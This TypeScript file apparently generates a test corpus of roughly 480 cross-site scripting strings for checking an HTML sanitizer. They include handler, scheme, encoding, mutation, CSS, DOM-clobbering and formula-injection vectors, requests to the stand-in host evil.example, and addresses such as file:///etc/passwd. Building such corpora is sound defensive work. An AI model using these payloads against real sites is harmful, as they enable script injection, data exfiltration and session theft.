// Attack strings of the families that OWASP and the HTML5 vector lists name, combined here: element x handler x encoding.
// A script that runs sets `window.stolen`; a request that leaves goes to evil.example.

const payload = 'window.stolen=(window.stolen||0)+1';
const evil = 'https://evil.example';

const elements = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'details',
  'input',
  'marquee',
  'iframe',
  'object',
  'embed',
  'math',
  'select',
  'textarea',
  'a',
  'div',
  'style',
  'button',
  'form',
  'table',
  'custom-x',
  'dialog',
  'source',
  'p',
];
const handlers = [
  'src=x onerror',
  'onload',
  'autofocus tabindex=1 onfocus',
  'open ontoggle',
  'onstart',
  'style="animation:x 1s" onanimationstart',
  'onpointerenter',
  'onclick',
];
/** How an attribute is told apart from its element. */
const gaps = [' ', '/', '\n', '\t', '\f', ' x=">" ', '/x/', " a='' "];

const byHandler = elements.flatMap((element, at) =>
  handlers.map((handler, turn) => `<${element}${gaps[(at + turn) % gaps.length]}${handler}=${payload}>x</${element}>`),
);

const hex = (text: string): string => Array.from(text, (one) => `&#x${one.charCodeAt(0).toString(16)};`).join('');
const decimal = (text: string): string =>
  Array.from(text, (one) => `&#${one.charCodeAt(0).toString().padStart(7, '0')}`).join('');

/** `javascript:` as browsers accept it all the same. */
const schemes = [
  `javascript:${payload}`,
  `JaVaScRiPt:${payload}`,
  `  javascript:${payload}`,
  `java\tscript:${payload}`,
  `java&#x0A;script:${payload}`,
  `java&Tab;script&colon;${payload}`,
  `&#1;javascript:${payload}`,
  `&#14; javascript:${payload}`,
  `\u00a0javascript:${payload}`,
  hex(`javascript:${payload}`),
  decimal(`javascript:${payload}`),
  `javascript://evil.example/%0a${payload}`,
  `vbscript:${payload}`,
  `data:text/html,<script>${payload}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${payload}</script>`).toString('base64')}`,
  `view-source:javascript:${payload}`,
  `feed:javascript:${payload}`,
  `jar:javascript:${payload}!/`,
  `blob:${evil}/x`,
  `//evil.example\\@javascript:${payload}`,
];
const linkHolders = [
  (url: string) => `<a href="${url}" autofocus>x</a>`,
  (url: string) => `<a href='${url}' target=_self>x</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<form action="${url}"><input type=submit></form>`,
  (url: string) => `<button form=f formaction="${url}">x</button>`,
  (url: string) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
  (url: string) => `<svg><animate attributeName=href values="${url}"/></svg>`,
  (url: string) => `<math href="${url}">x</math>`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<base href="${url}"><a href=x>x</a>`,
  (url: string) => `<area shape=default href="${url}">`,
  (url: string) => `<img src="${url}">`,
];
const byScheme = schemes.flatMap((url, at) =>
  linkHolders.filter((_holder, turn) => turn < 2 || (at + turn) % 3 === 0).map((holder) => holder(url)),
);

const scripts = [
  `<script>${payload}</script>`,
  `<SCRIPT>${payload}</SCRIPT>`,
  `<script/x>${payload}</script>`,
  `<script\n>${payload}</script\n>`,
  `<script type=module>${payload}</script>`,
  `<script src=${evil}/x.js></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src=data:,${payload}></script>`,
  `<scr<script>ipt>${payload}</scr</script>ipt>`,
  `<scr\0ipt>${payload}</script>`,
  `<<script>${payload}//<</script>`,
  `<script>${payload}`,
  `<svg><script>${payload}</script></svg>`,
  `<svg><script href=data:,${payload} />`,
  `<svg><script>${hex(payload)}</script></svg>`,
  `<math><script>${payload}</script></math>`,
  `<template><script>${payload}</script></template>`,
  `<iframe srcdoc="<script>parent.${payload}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${payload}&lt;/script&gt;"></iframe>`,
  `<object type=text/html data="data:text/html,<script>parent.${payload}</script>"></object>`,
  `<xml id=x><script>${payload}</script></xml>`,
  `+ADw-script+AD4-${payload}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${payload}\u00bc/script\u00be`,
  `%3Cscript%3E${payload}%3C/script%3E`,
  `&lt;script&gt;${payload}&lt;/script&gt;`,
];

const image = `<img src=x onerror=${payload}>`;
/** Text for one parser that is markup for the next (mutation). */
const mutations = [
  `<noscript><p title="</noscript>${image}">`,
  `<style><p title="</style>${image}">`,
  `<title><p title="</title>${image}">`,
  `<textarea><p title="</textarea>${image}">`,
  `<xmp><p title="</xmp>${image}">`,
  `<noembed><p title="</noembed>${image}">`,
  `<noframes><p title="</noframes>${image}">`,
  `<iframe><p title="</iframe>${image}">`,
  `<plaintext>${image}`,
  `<listing>&lt;img src=x onerror=${payload}&gt;</listing>`,
  `<!--><${image.slice(1)}-->`,
  `<!--->${image}-->`,
  `<!-- --!>${image}<!-- -->`,
  `<!--[if gte IE 4]>${image}<![endif]-->`,
  `<![CDATA[${image}]]>`,
  `<svg><![CDATA[><${image.slice(1)}]]></svg>`,
  `<?xml ?>${image}`,
  `<!doctype x [<!entity y "${image}">]>&y;`,
  `</${image}`,
  `<svg></p><style><a id="</style>${image}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<math><annotation-xml encoding=text/html><style>${image}</style></annotation-xml></math>`,
  `<svg><foreignObject><style>${image}</style></foreignObject></svg>`,
  `<svg><title><style>${image}</style></title></svg>`,
  `<svg><desc>${image}</desc></svg>`,
  `<select><option><style></option></select>${image}</style>`,
  `<table><td background="x"><caption>${image}</caption></table>`,
  `<p id="\`\`onerror=${payload} ">x</p>`,
  `<img alt="\`\`onerror=${payload}" src=x>`,
  `<a href="x" title="&quot;&gt;${image}">x</a>`,
  `<a href="https://a.example/&quot;><img src=x onerror=${payload}>">x</a>`,
  `<a href='https://a.example/" onmouseover="${payload}'>x</a>`,
  `<a href="https://a.example/"onclick="${payload}">x</a>`,
  `<img """>${scripts[0]}">`,
  `<img src="x:gif" onerror="eval('${payload}')" alt="<`,
  `<img src=x onerror=${payload}//`,
  `<p ${image}`,
  `<a <img src=x onerror=${payload}>x</a>`,
  `<b${'<b'.repeat(300)}${image}`,
  `${'<div>'.repeat(700)}${image}`,
  `<template><template shadowrootmode=open>${image}</template></template>`,
  `<div><template shadowrootmode=open>${image}</template></div>`,
  `<frameset onload=${payload}><frame src=javascript:${payload}></frameset>`,
  `<isindex action=javascript:${payload} type=image>`,
  `<keygen autofocus onfocus=${payload}>`,
  `<svg><set onbegin=${payload} attributeName=x dur=1s></svg>`,
  `<svg><animate onbegin=${payload} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'>${image}</svg>#x"/></svg>`,
  `<svg><handler type=text/javascript ev:event=load>${payload}</handler></svg>`,
];

/** What calls home without any script. */
const requests = [
  `<img src=${evil}/i.png>`,
  `<img srcset="${evil}/i.png 2x">`,
  `<picture><source srcset=${evil}/i.png><img></picture>`,
  `<image src=${evil}/i.png>`,
  `<video poster=${evil}/p.png src=${evil}/v.mp4></video>`,
  `<audio src=${evil}/a.mp3 preload=auto></audio>`,
  `<video><track default src=${evil}/t.vtt></video>`,
  `<input type=image src=${evil}/i.png>`,
  `<iframe src=${evil}></iframe>`,
  `<object data=${evil}/o></object>`,
  `<embed src=${evil}/e>`,
  `<portal src=${evil}></portal>`,
  `<fencedframe src=${evil}></fencedframe>`,
  `<body background=${evil}/b.png>`,
  `<table background=${evil}/b.png><td background=${evil}/c.png>x</table>`,
  ...['stylesheet', 'preload', 'prefetch', 'dns-prefetch', 'preconnect', 'icon', 'manifest', 'import'].map(
    (rel) => `<link rel=${rel} as=image href=${evil}/l>`,
  ),
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<meta http-equiv=set-cookie content="a=b">`,
  `<base href=${evil}/><img src=i.png>`,
  `<svg><image href=${evil}/i.png /></svg>`,
  `<svg><use href=${evil}/u.svg#x /></svg>`,
  `<svg><filter><feImage href=${evil}/f.png /></filter></svg>`,
  `<a href=https://a.example ping=${evil}>x</a>`,
  `<a href=https://a.example attributionsrc=${evil}>x</a>`,
  `<form action=${evil} id=f><input name=q autofocus></form>`,
  `<button formaction=${evil}>x</button>`,
  `<applet code=x archive=${evil}></applet>`,
  `<bgsound src=${evil}/a.wav>`,
  `<blink><layer src=${evil}></layer></blink>`,
];

const styleTexts = [
  `background:url(${evil}/s.png)`,
  `background:u\\72l(${evil}/s.png)`,
  `list-style-image:url('${evil}/s.png')`,
  `content:image-set('${evil}/s.png' 1x)`,
  `behavior:url(${evil}/x.htc)`,
  `-moz-binding:url(${evil}/x.xml#x)`,
  `width:expression(${payload})`,
  `width:exp/**/ression(${payload})`,
  `background:url(javascript:${payload})`,
  `position:fixed;inset:0;z-index:9999`,
];
const styles = [
  ...styleTexts.flatMap((css) => [`<p style="${css}">x</p>`, `<style>p{${css}}</style><p>x</p>`]),
  ...styleTexts.map((css) => `<font style='${hex(css)}'>x</font>`),
  `<style>@import '${evil}/x.css';</style>`,
  `<style>@font-face{font-family:x;src:url(${evil}/f.woff)}p{font-family:x}</style><p>x</p>`,
  `<svg><style>*{background:url(${evil}/s.png)}</style></svg>`,
];

/** Elements whose id or name hides what a page's own script looks for. */
const clobbering = ['form', 'img', 'a', 'object', 'input', 'iframe'].flatMap((element) => [
  `<${element} id=document name=cookie>x</${element}>`,
  `<${element} id=location name=href href=cid:x>x</${element}>`,
]);

/** What a formula may do where the page shows it as MathML. */
const formulas = [
  `$\\href{javascript:${payload}}{x}$`,
  `$\\url{javascript:${payload}}$`,
  `$\\includegraphics{${evil}/x.png}$`,
  `$\\style{background:url(${evil}/s.png)}{x}$`,
  `$\\color{red;background:url(${evil}/c.png)}{x}$`,
  `$\\data{onclick=${payload}}{x}$`,
  `$\\text{<img src=x onerror=${payload}>}$`,
  `$x_{<script>${payload}</script>}$`,
  `$\\def\\x{\\x\\x}\\x$`,
  `$&lt;img src=x onerror=${payload}&gt;$`,
];

/** Some 480 strings; each is hostile as it stands when a page takes it for HTML. */
export const attackStrings: readonly string[] = [
  ...byHandler,
  ...byScheme,
  ...scripts,
  ...mutations,
  ...requests,
  ...styles,
  ...clobbering,
  ...formulas,
];

/** Addresses that an item may claim for itself or its image. */
export const hostileAddresses: readonly string[] = [
  ...schemes,
  'http://127.0.0.1/',
  'file:///etc/passwd',
  `https://a.example/"onclick="${payload}`,
  `https://a.example/'><script>${payload}</script>`,
];
